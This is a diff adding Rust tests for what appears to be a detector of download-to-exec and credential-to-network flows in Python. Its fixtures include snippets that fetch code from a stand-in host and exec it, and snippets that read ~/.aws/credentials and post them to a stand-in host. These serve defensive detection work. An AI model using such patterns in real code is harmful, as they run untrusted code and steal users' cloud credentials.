@@ -1385,3 +1385,70 @@ fn one_variable_taken_from_a_copy_of_the_environment_is_that_variable() {
         );
     }
 }
+
+#[test]
+fn a_coroutine_run_to_completion_hands_on_what_it_returns() {
+    let text = "import asyncio, urllib.request\nasync def pull(url):\n    return urllib.request.urlopen(url).read()\nexec(asyncio.run(pull('https://stage.example.invalid/s.py')))\n";
+    assert_eq!(kinds_py(text), vec![FlowKind::DownloadToExec]);
+    let looped = "import asyncio, urllib.request\nasync def pull():\n    return urllib.request.urlopen('https://stage.example.invalid/s.py').read()\nloop = asyncio.new_event_loop()\nexec(loop.run_until_complete(pull()))\n";
+    assert_eq!(kinds_py(looped), vec![FlowKind::DownloadToExec]);
+    // The version a coroutine fetches, printed, runs nothing.
+    let printed = "import asyncio, urllib.request\nasync def latest():\n    return urllib.request.urlopen('https://pypi.example.invalid/v').read()\nprint(asyncio.run(latest()))\n";
+    assert!(kinds_py(printed).is_empty());
+}
+
+#[test]
+fn a_decorator_that_runs_its_function_result_runs_the_download() {
+    let text = "import urllib.request\ndef on_load(fn):\n    exec(fn())\n    return fn\n@on_load\ndef body():\n    return urllib.request.urlopen('https://stage.example.invalid/s.py').read().decode()\n";
+    let found = py(text);
+    assert_eq!(found.len(), 1, "{found:?}");
+    assert_eq!(found[0].0, FlowKind::DownloadToExec);
+    assert_eq!(found[0].1, "exec(fn())");
+    assert_eq!(found[0].3.as_deref(), Some("@on_load"));
+    // The same runner called with the function, and a wrapper that returns what it calls.
+    let called = "import urllib.request\ndef run_result(fn):\n    exec(fn())\ndef body():\n    return urllib.request.urlopen('https://stage.example.invalid/s.py').read()\nrun_result(body)\n";
+    assert_eq!(kinds_py(called), vec![FlowKind::DownloadToExec]);
+    let returned = "import urllib.request\ndef call(fn):\n    return fn()\ndef body():\n    return urllib.request.urlopen('https://stage.example.invalid/s.py').read()\nexec(call(body))\n";
+    assert_eq!(kinds_py(returned), vec![FlowKind::DownloadToExec]);
+}
+
+#[test]
+fn decorators_that_register_time_or_log_their_function_are_no_flow() {
+    for text in [
+        // A registry keeps the function; a timer calls it and prints how long it took.
+        "import urllib.request\nHOOKS = []\ndef hook(fn):\n    HOOKS.append(fn)\n    return fn\n@hook\ndef body():\n    return urllib.request.urlopen('https://api.example.invalid/v').read()\n",
+        "import time, urllib.request\ndef timed(fn):\n    start = time.time()\n    print(fn(), time.time() - start)\n    return fn\n@timed\ndef body():\n    return urllib.request.urlopen('https://api.example.invalid/v').read()\n",
+        // The decorated function returns a constant the decorator runs.
+        "def on_load(fn):\n    exec(fn())\n@on_load\ndef body():\n    return 'print(1)'\n",
+    ] {
+        assert!(kinds_py(text).is_empty(), "{text}");
+    }
+}
+
+#[test]
+fn a_partial_send_carries_its_bound_destination_and_arguments() {
+    let text = "import functools, os, requests\nupload = functools.partial(requests.post, 'https://intake.example.invalid/u', timeout=5)\ncreds = open(os.path.expanduser('~/.aws/credentials')).read()\nupload(data=creds)\n";
+    assert_eq!(kinds_py(text), vec![FlowKind::CredentialToNetwork]);
+    let bound = "from functools import partial\nimport os, requests\ncreds = open(os.path.expanduser('~/.aws/credentials')).read()\nsend = partial(requests.post, 'https://intake.example.invalid/u', data=creds)\nsend()\n";
+    assert_eq!(kinds_py(bound), vec![FlowKind::CredentialToNetwork]);
+    // Bound to the store's own service, or sending a report, it is no theft.
+    let own = "import functools, os, requests\nupload = functools.partial(requests.post, 'https://sts.amazonaws.com/')\ncreds = open(os.path.expanduser('~/.aws/credentials')).read()\nupload(data=creds)\n";
+    assert!(kinds_py(own).is_empty());
+    let report = "import functools, requests\nupload = functools.partial(requests.post, 'https://intake.example.invalid/u')\nupload(data=open('report.json').read())\n";
+    assert!(kinds_py(report).is_empty());
+}
+
+#[test]
+fn decorator_factories_lambdas_and_executor_futures_carry_the_result() {
+    let factory = "import urllib.request\ndef stage(label):\n    def apply(fn):\n        exec(fn())\n        return fn\n    return apply\n@stage('warm')\ndef body():\n    return urllib.request.urlopen('https://stage.example.invalid/s.py').read()\n";
+    assert_eq!(kinds_py(factory), vec![FlowKind::DownloadToExec]);
+    let lambda = "import urllib.request\nrun_result = lambda fn: exec(fn())\n@run_result\ndef body():\n    return urllib.request.urlopen('https://stage.example.invalid/s.py').read()\n";
+    assert_eq!(kinds_py(lambda), vec![FlowKind::DownloadToExec]);
+    let pool = "import urllib.request\nfrom concurrent.futures import ThreadPoolExecutor\ndef grab():\n    return urllib.request.urlopen('https://stage.example.invalid/s.py').read()\nwith ThreadPoolExecutor(1) as pool:\n    exec(pool.submit(grab).result())\n";
+    assert_eq!(kinds_py(pool), vec![FlowKind::DownloadToExec]);
+    // A factory whose decorator only registers, and a future whose JSON is printed.
+    let registry = "import urllib.request\nREG = {}\ndef plugin(label):\n    def apply(fn):\n        REG[label] = fn\n        return fn\n    return apply\n@plugin('v')\ndef body():\n    return urllib.request.urlopen('https://api.example.invalid/v').read()\n";
+    assert!(kinds_py(registry).is_empty());
+    let printed = "import json, urllib.request\nfrom concurrent.futures import ThreadPoolExecutor\ndef grab():\n    return json.loads(urllib.request.urlopen('https://api.example.invalid/v').read())\nwith ThreadPoolExecutor(1) as pool:\n    print(pool.submit(grab).result())\n";
+    assert!(kinds_py(printed).is_empty());
+}
